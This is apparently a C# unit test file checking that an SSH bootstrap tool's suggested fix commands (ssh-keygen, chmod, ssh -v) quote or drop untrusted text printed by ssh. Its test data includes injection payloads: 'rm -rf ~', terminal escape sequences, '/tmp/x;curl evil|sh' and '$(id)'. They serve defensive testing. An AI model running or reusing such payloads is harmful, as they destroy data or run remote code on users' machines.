using MoshPS.Engine.Ssh;

namespace MoshPS.Engine.Tests.Ssh;

/// <summary>What is suggested is made here; what ssh printed may be anybody's text.</summary>
public sealed class SshFailureTests
{
    private const string Evil = "rm -rf ~;\u001b]52;c;eA==\u0007\u202e";

    private static readonly SshBootstrapOptions Options = new() { HostName = "srv", KeyFilePath = "/home/ann/my key" };

    private static readonly SshConfiguration Configuration = SshConfiguration.Parse(
    [
        "hostname srv.example.org", "port 2222", "userknownhostsfile /home/ann/.ssh/known_hosts \"/home/ann/other hosts\"",
        "globalknownhostsfile /etc/ssh/ssh_known_hosts", "identityfile ~/.ssh/id_rsa", "identityfile /keys/it's", "identityfile /keys/a\u202eb",
    ]);

    [Theory]
    [InlineData("/home/ann/.ssh/known_hosts", " -f /home/ann/.ssh/known_hosts")]
    [InlineData("/home/ann/other hosts", " -f '/home/ann/other hosts'")]
    [InlineData("/tmp/x;curl evil|sh", "")]
    [InlineData("/home/ann/.ssh/known_hosts -R other", "")]
    public void A_changed_key_is_removed_by_a_command_with_names_that_are_known_here(string file, string argument)
    {
        var error = Explain(
            "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!",
            $"Offending ED25519 key in {file}:3",
            "  remove with:",
            $"  ssh-keygen -f \"/tmp/x\" -R \"srv\"; {Evil}");
        Assert.Equal("HostKeyChanged", error.ErrorId);
        Assert.EndsWith($": ssh-keygen -R '[srv.example.org]:2222'{argument}", error.RecommendedAction, StringComparison.Ordinal);
    }

    [Fact]
    public void An_alias_of_the_host_key_is_what_known_hosts_has()
    {
        var aliased = SshConfiguration.Parse(["hostname srv", "port 2222", "hostkeyalias cluster"]);
        Assert.Equal("cluster", aliased.KnownHostsName("srv", null));
        Assert.Equal("srv", SshConfiguration.Parse(["hostname srv", "port 22"]).KnownHostsName("alias", null));
        Assert.Equal("[alias]:23", SshConfiguration.Unknown.KnownHostsName("alias", 23));
    }

    [Theory]
    [InlineData("/home/ann/my key", "'/home/ann/my key'")]
    [InlineData("/keys/it's", @"'/keys/it'\''s'")]
    [InlineData("HOME/.ssh/id_rsa", "HOME/.ssh/id_rsa")]
    [InlineData("/keys/a\u202eb", null)]
    [InlineData("/tmp/$(id)", null)]
    [InlineData("x; " + Evil, null)]
    public void A_key_is_named_in_a_command_only_if_it_is_known_here(string printed, string? word)
    {
        string home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        printed = printed.Replace("HOME", home, StringComparison.Ordinal);
        word = word?.Replace("HOME", home, StringComparison.Ordinal);

        var open = Explain($"Permissions 0644 for '{printed}' are too open.", "ann@srv: Permission denied (publickey).");
        Assert.Equal("AuthenticationFailed", open.ErrorId);
        Assert.Equal(word is not null, open.RecommendedAction.EndsWith($": chmod 600 {word}", StringComparison.Ordinal));
        AssertClean(open, printed, word);

        var log = new SshLog();
        log.Accept($"debug1: Server accepts key: {printed.Split(' ')[0]} RSA SHA256:abc explicit");
        log.Accept("ann@srv: Permission denied (publickey).");
        var locked = SshFailure.Explain(Options, Configuration, log, 255);
        Assert.Equal("PromptNeeded", locked.ErrorId);
        Assert.Contains("ssh-add", locked.RecommendedAction, StringComparison.Ordinal);
        AssertClean(locked, printed, word);
    }

    [Fact]
    public void No_line_of_ssh_reaches_a_suggestion()
    {
        string[] lines =
        [
            $"Host key verification failed. {Evil}", $"Permission denied ({Evil})", $"ssh: Could not resolve hostname {Evil}: {Evil}", $"open failed: {Evil}",
            $"ssh: connect to host {Evil} port 22: {Evil}", $"Unable to negotiate with {Evil}", $"Connection closed by {Evil}", $"Bad configuration option: {Evil}",
            $"Host key for {Evil} has changed", $"REVOKED HOST KEY DETECTED {Evil}", $"Too many authentication failures {Evil}", Evil,
        ];
        foreach (string line in lines)
        {
            var error = Explain(line);
            Assert.DoesNotContain("rm -rf", error.RecommendedAction, StringComparison.Ordinal);
            Assert.Equal(error.Message, HostText.Clean(error.Message, int.MaxValue));
        }
    }

    [Fact]
    public void A_host_name_is_a_word_of_a_suggested_command_whatever_it_holds()
    {
        var log = new SshLog();
        log.Accept("something else");
        var error = SshFailure.Explain(Options with { HostName = "a;id" }, SshConfiguration.Unknown, log, 255);
        Assert.EndsWith(": ssh -v 'a;id'", error.RecommendedAction, StringComparison.Ordinal);
    }

    private static void AssertClean(MoshBootstrapException error, string printed, string? word)
    {
        if (word is null)
        {
            Assert.DoesNotContain(printed, error.RecommendedAction, StringComparison.Ordinal);
        }

        Assert.DoesNotContain("rm -rf", error.RecommendedAction, StringComparison.Ordinal);
        Assert.Equal(error.RecommendedAction, HostText.Clean(error.RecommendedAction, int.MaxValue));
    }

    private static MoshBootstrapException Explain(params string[] lines)
    {
        // The way of the real lines: through the splitter.
        var log = new SshLog();
        var splitter = new LineSplitter();
        splitter.Write(System.Text.Encoding.UTF8.GetBytes(string.Join('\n', lines) + "\n"), line => log.Accept(line));
        return SshFailure.Explain(Options, Configuration, log, 255);
    }
}
